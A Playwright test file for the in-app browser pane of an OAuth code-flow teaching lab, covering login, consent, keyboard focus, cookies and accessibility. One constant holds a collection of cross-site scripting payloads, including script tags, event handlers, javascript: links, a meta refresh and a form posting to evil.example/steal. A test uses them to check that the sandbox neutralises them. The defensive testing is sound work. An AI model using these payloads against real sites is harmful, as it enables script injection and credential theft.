import AxeBuilder from '@axe-core/playwright';
import type { Locator, Page } from '@playwright/test';
import { encodeState } from '../../src/engine/player/link/share-link.ts';
import type { LabState } from '../../src/engine/player/player-view.ts';
import { Stage } from './stage.ts';
import { expect, test } from './watched.ts';

/** The pane's own button, by whose turn it is. */
const FORWARD = /^(Let it go on|Let it ask|Follow the redirect|Open the address)$/;

/** The browser of a lab, in the words of somebody who uses it. */
class Pane {
  readonly stage: Stage;
  readonly region: Locator;
  readonly page: Locator;
  readonly address: Locator;

  constructor(page: Page) {
    this.stage = new Stage(page);
    this.region = page.getByRole('region', { name: 'Browser' });
    this.page = this.region.getByRole('group', { name: /^Page: / });
    this.address = this.region.getByRole('textbox', { name: 'Address bar' });
  }

  async open(lab: string, fragment = ''): Promise<this> {
    await this.stage.open(lab, fragment);
    await this.stage.page.getByRole('button', { name: 'Browser', exact: true }).click();
    await expect(this.region).toBeVisible();
    await this.stage.settled();
    return this;
  }

  button(name: string): Locator {
    return this.page.getByRole('button', { name, exact: true });
  }

  /** Presses the pane's own button until the page's turn has come, or the play is over. */
  async goOn(most = 8): Promise<void> {
    const forward = this.region.getByRole('button', { name: FORWARD });
    for (let sent = 0; sent < most && (await forward.isVisible()); sent += 1) {
      const before = await this.stage.position();
      await forward.click();
      await this.stage.at(before + 1);
    }
  }

  /** Presses a button of the page, and waits until its message is decided. */
  async press(name: string): Promise<void> {
    const before = await this.stage.position();
    await this.button(name).click();
    await this.stage.at(before + 1);
  }
}

async function linkTo(state: Partial<LabState>): Promise<string> {
  const fresh: LabState = { lab: 'code-flow', stage: 0, edits: [], off: [], clock: [], own: [], position: 0 };
  const fragment = await encodeState({ ...fresh, ...state });
  if (fragment === undefined) throw new Error('The state is too large for a link.');
  return `#${fragment}`;
}

test('a login and a consent are played in the browser alone, by mouse', async ({ page }) => {
  const pane = await new Pane(page).open('code-flow');
  await expect(pane.address).toHaveValue('');
  await pane.goOn();
  await expect(pane.address).toHaveValue(/^https:\/\/as\.lab\.test\/authorize\?/);
  await pane.page.getByLabel('User name').fill('alice');
  await pane.page.getByLabel('Password').fill('wonderland');
  await pane.press('Log in');
  await expect(pane.region).toContainText('The answer was a redirect');
  await pane.goOn();
  await expect(pane.page.getByRole('heading', { name: 'Allow access' })).toBeVisible();
  await pane.press('Allow');
  await pane.goOn();
  await expect(pane.address).toHaveValue('https://app.lab.test/');
  await expect(pane.region).toContainText('The play has ended. The app reads the invoices.');
});

test('the same by keyboard alone, and the focus is never lost', async ({ page }) => {
  const pane = await new Pane(page).open('code-flow');
  const forward = pane.region.getByRole('button', { name: FORWARD });
  const goOn = async (): Promise<void> => {
    const before = await pane.stage.position();
    await page.keyboard.press('Enter');
    await pane.stage.at(before + 1);
  };
  await forward.focus();
  await goOn();
  await expect(forward).toBeFocused();
  await goOn();
  await expect(pane.page).toBeFocused();
  await page.keyboard.press('Tab');
  await page.keyboard.press('ControlOrMeta+a');
  await page.keyboard.type('alice');
  await page.keyboard.press('Tab');
  await page.keyboard.press('ControlOrMeta+a');
  await page.keyboard.type('wonderland');
  await goOn();
  await expect(forward).toBeFocused();
  await goOn();
  await expect(pane.page).toBeFocused();
  await page.keyboard.press('Tab');
  await expect(pane.button('Allow')).toBeFocused();
  await goOn();
  for (let hops = 0; hops < 5; hops += 1) await goOn();
  await expect(pane.region).toContainText('The play has ended. The app reads the invoices.');
});

test('Tab leaves the page again', async ({ page }) => {
  const pane = await new Pane(page).open('code-flow');
  await pane.goOn();
  await pane.button('Log in with Partner').focus();
  await page.keyboard.press('Tab');
  await expect(pane.region.locator('[data-hop="2"]')).toBeFocused();
  await page.keyboard.press('Shift+Tab');
  await page.keyboard.press('Shift+Tab');
  await expect(pane.button('Log in')).toBeFocused();
});

test('Deny ends the play as the lab says, and is an edit of that one field', async ({ page }) => {
  const pane = await new Pane(page).open('code-flow');
  await pane.goOn();
  await pane.press('Log in');
  await pane.goOn();
  await pane.press('Deny');
  await pane.goOn();
  await expect(pane.region).toContainText('The play has ended. No code comes back to the app');
  await pane.stage.asAList();
  await expect(page.locator('li[data-message="5"]')).toContainText('decision edited');
});

test('a wrong password is told by the page, and typing the right one back undoes the edit', async ({ page }) => {
  const pane = await new Pane(page).open('code-flow');
  await pane.goOn();
  await pane.page.getByLabel('Password').fill('looking-glass');
  await pane.page.getByLabel('Password').press('Tab');
  await expect(pane.stage.draft.getByLabel('password (edited)')).toHaveValue('looking-glass');
  await pane.page.getByLabel('Password').fill('wonderland');
  await pane.page.getByLabel('Password').press('Tab');
  await expect(pane.stage.draft.getByLabel('password', { exact: true })).toHaveValue('wonderland');
  await pane.page.getByLabel('Password').fill('looking-glass');
  await pane.press('Log in');
  await expect(pane.page.getByRole('alert')).toContainText('The user name or the password is wrong');
});

test('what is typed in the draft is in the page, and Undo takes it out of both', async ({ page }) => {
  const pane = await new Pane(page).open('code-flow');
  await pane.goOn();
  await pane.stage.fill('username', 'mallory');
  await expect(pane.page.getByLabel('User name')).toHaveValue('mallory');
  await pane.stage.draft.getByRole('button', { name: /^Undo edits/ }).click();
  await expect(pane.page.getByLabel('User name')).toHaveValue('alice');
});

test('what is typed before its time is kept, told, and in the message once the page is next', async ({ page }) => {
  const pane = await new Pane(page).open('code-flow');
  await pane.goOn();
  await pane.press('Log in');
  const position = await pane.stage.position();
  await pane.page.getByLabel('User name').fill('mallory');
  await pane.button('Log in').click();
  await expect(pane.region).toContainText('Nothing was sent: the browser is leaving this page.');
  expect(await pane.stage.position()).toBe(position);
  await pane.stage.goBack();
  await expect(pane.region).toContainText('What you typed before is in the message now.');
  await expect(pane.stage.draft.getByLabel('username (edited)')).toHaveValue('mallory');
});

test('a form that the play does not expect turns the message to where it goes, and can be taken back', async ({ page }) => {
  const pane = await new Pane(page).open('code-flow');
  await pane.goOn();
  await pane.button('Log in with Partner').click();
  await expect(pane.region).toContainText('The next message goes to https://as.lab.test/federation now');
  await expect(pane.stage.draft.getByLabel(/^URL/)).toHaveValue('https://as.lab.test/federation');
  await pane.region.getByRole('button', { name: 'Take it back' }).click();
  await expect(pane.stage.draft.getByLabel(/^URL/)).toHaveValue('https://as.lab.test/login');
  await pane.button('Log in with Partner').click();
  const before = await pane.stage.position();
  await pane.region.getByRole('button', { name: 'Let it go there' }).click();
  await pane.stage.at(before + 1);
  await expect(pane.stage.verdict).toContainText('303');
});

test('cookies are shown with their attributes and who set them, and each hop is a message to select', async ({ page }) => {
  const pane = await new Pane(page).open('code-flow');
  await pane.goOn();
  await pane.press('Log in');
  await pane.goOn();
  const cookie = pane.region.locator('[data-cookie="__Host-session"]');
  for (const fact of ['as.lab.test only', 'Secure', 'HttpOnly', 'Lax', 'with the browser session', 'message 3'])
    await expect(cookie).toContainText(fact);
  await pane.region.locator('[data-hop="3"]').click();
  await expect(pane.region.locator('[data-hop="3"]')).toHaveAttribute('aria-current', 'true');
  await pane.stage.show('Message');
  await expect(pane.stage.inspector).toContainText('/login');
  await pane.region.locator('[data-hop="4"]').click();
  await cookie.getByRole('button').click();
  await expect(pane.region.locator('[data-hop="3"]')).toHaveAttribute('aria-current', 'true');
});

test('the choice of the browser is remembered, the draft leads to it, and the list takes its place', async ({ page }) => {
  const stage = await new Stage(page).open('code-flow');
  await stage.sendUntilDraftIs('POST', 'https://as.lab.test/login');
  await expect(page.getByRole('region', { name: 'Browser' })).toHaveCount(0);
  await stage.draft.getByRole('button', { name: 'Fill it in there' }).click();
  await expect(page.getByRole('group', { name: 'Page: Log in' })).toBeFocused();
  await page.reload();
  await expect(page.getByRole('region', { name: 'Browser' })).toBeVisible();
  await page.getByRole('button', { name: 'As a list' }).click();
  await expect(page.getByRole('region', { name: 'Browser' })).toHaveCount(0);
  await expect(page.getByRole('list', { name: 'Messages' })).toBeVisible();
});

test('on a narrow stage the draft leads to the page, too, and the page scrolls with everything else', async ({ page }) => {
  await page.setViewportSize({ width: 390, height: 844 });
  const pane = await new Pane(page).open('code-flow');
  await pane.goOn();
  await page.getByRole('button', { name: 'Message', exact: true }).click();
  await expect(pane.region).toBeHidden();
  await pane.stage.draft.getByRole('button', { name: 'Fill it in there' }).click();
  await expect(pane.page).toBeFocused();
  await pane.press('Log in');
  await pane.goOn();
  await pane.press('Deny');
  await pane.goOn();
  await expect(pane.region).toContainText('The play has ended. No code comes back to the app');
});

test('an answer that is held on its way has not reached the browser', async ({ page }) => {
  const pane = await new Pane(page).open('code-flow');
  await pane.goOn(1);
  await page.getByRole('switch', { name: /^Hold answers/ }).check();
  await pane.region.getByRole('button', { name: 'Open the address' }).click();
  await expect(pane.region).toContainText('holds the answer of Authorization server to Alice’s browser');
  await expect(pane.page).toHaveCount(0);
  await pane.region.getByRole('button', { name: 'Let it arrive' }).click();
  await expect(pane.page.getByRole('heading', { name: 'Log in' })).toBeVisible();
});

test('a lab in which nobody uses a browser has no button for one', async ({ page }) => {
  await page.addInitScript(() => localStorage.setItem('tokenscope:browser', 'shown'));
  await new Stage(page).open('validate');
  await expect(page.getByRole('button', { name: 'Browser', exact: true })).toHaveCount(0);
  await expect(page.getByRole('region', { name: 'Browser' })).toHaveCount(0);
});

const HOSTILE = `"></label><script>top.hurt = 1</script><img src=x onerror="top.hurt = 2"><img src="https://evil.example/pixel">
<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/s.css">
<style>body { background: url(https://evil.example/b) }</style><iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>top.hurt = 3</script>"></iframe>
<object data="https://evil.example/"></object><embed src="https://evil.example/"><svg onload="top.hurt = 4"><a href="javascript:top.hurt=5">a</a></svg>
<math><mtext><table><mglyph><style><img src=x onerror="top.hurt=6"></style></mglyph></table></mtext></math><video src="https://evil.example/v" autoplay></video>
<div style="position:fixed;inset:0;z-index:9" onclick="top.hurt = 7">overlay</div><a href="https://evil.example/" target="_top">Leave</a>
<a href="javascript:top.hurt=8">Script link</a><a href="//evil.example/x" ping="https://evil.example/ping" target="_blank">New window</a>
<form action="https://evil.example/steal" method="post" target="_top" name="querySelectorAll"><input name="body" value="1"><input name="stolen" autofocus onfocus="top.hurt = 9"><button formaction="https://evil.example/steal" formtarget="_top">Win a prize</button>
<button onclick="top.hurt = 10" popovertarget="p" type="button">Dialog</button><p id="p" popover contenteditable>${'deep '.repeat(50)}</p>${'<div>'.repeat(600)}bottom`;

test('a page that would run, load, post or cover something can do none of it', async ({ page, watched }) => {
  const link = await linkTo({
    off: ['http.escape-html'],
    edits: [{ message: 'authorize#0', kind: 'text', place: { part: 'query', name: 'login_hint', index: 0 }, value: HOSTILE }],
    position: 2,
  });
  const pane = await new Pane(page).open('code-flow', link);
  await expect(pane.page.getByText('overlay')).toBeVisible();
  for (const left of [
    'script',
    'event handler',
    'image',
    'frame',
    'style sheet',
    'redirect by the page',
    'base address',
    'link that is a script',
  ])
    await expect(pane.region.locator('.left')).toContainText(left);

  const inside = await pane.page.evaluate((group) => {
    const all = [...(group.firstElementChild?.shadowRoot?.querySelectorAll('*') ?? [])];
    return { tags: all.map((one) => one.localName), attributes: all.flatMap((one) => one.getAttributeNames()) };
  });
  const allowed = ['div', 'p', 'h3', 'label', 'input', 'button', 'a', 'span', 'table'];
  expect([...new Set(inside.tags)].filter((tag) => !allowed.includes(tag))).toEqual([]);
  const harmless = ['class', 'type', 'autocomplete', 'role', 'tabindex', 'aria-label'];
  expect([...new Set(inside.attributes)].filter((name) => !harmless.includes(name))).toEqual([]);

  const address = page.url();
  const position = await pane.stage.position();
  await pane.button('Win a prize').click();
  await expect(pane.region).toContainText('The next message goes to https://evil.example/steal now');
  await pane.region.getByRole('button', { name: 'Take it back' }).click();
  await pane.page.getByRole('link', { name: 'Leave' }).click();
  await expect(pane.stage.draft.getByLabel(/^URL/)).toHaveValue('https://evil.example/');
  await expect(pane.stage.draft.getByLabel(/^Cookie/)).toHaveCount(0);
  await pane.region.getByRole('button', { name: 'Take it back' }).click();
  await pane.page.getByText('Script link').click();
  await pane.page.getByText('overlay').click();
  expect(await pane.stage.position()).toBe(position);
  expect(page.url()).toBe(address);
  expect(await page.evaluate(() => 'hurt' in window)).toBe(false);
  expect(watched.asked.filter((url) => url.includes('evil.example'))).toEqual([]);
});

test('axe finds nothing in the pane or in its page, light and dark, and nothing is cut off at 320 px', async ({ page }) => {
  await page.emulateMedia({ reducedMotion: 'reduce' });
  const pane = await new Pane(page).open('code-flow');
  const found = async (): Promise<string[]> => {
    const { violations } = await new AxeBuilder({ page }).include('section[aria-label="Browser"]').analyze();
    return violations.flatMap(({ id, nodes }) => nodes.map((node) => `${id}: ${node.html.slice(0, 160)} ${node.failureSummary ?? ''}`));
  };
  expect(await found()).toEqual([]);
  await pane.goOn();
  expect(await found()).toEqual([]);
  await pane.press('Log in');
  await pane.goOn();
  await page.emulateMedia({ colorScheme: 'dark', reducedMotion: 'reduce' });
  expect(await found()).toEqual([]);
  await page.setViewportSize({ width: 320, height: 640 });
  const widths = await page.evaluate(() => [document.documentElement.scrollWidth, document.documentElement.clientWidth]);
  expect(widths[0]).toBeLessThanOrEqual(widths[1] ?? 0);
  const host = await pane.page.evaluate((element) => [element.scrollWidth, element.clientWidth]);
  expect(host[0]).toBeLessThanOrEqual(host[1] ?? 0);
});
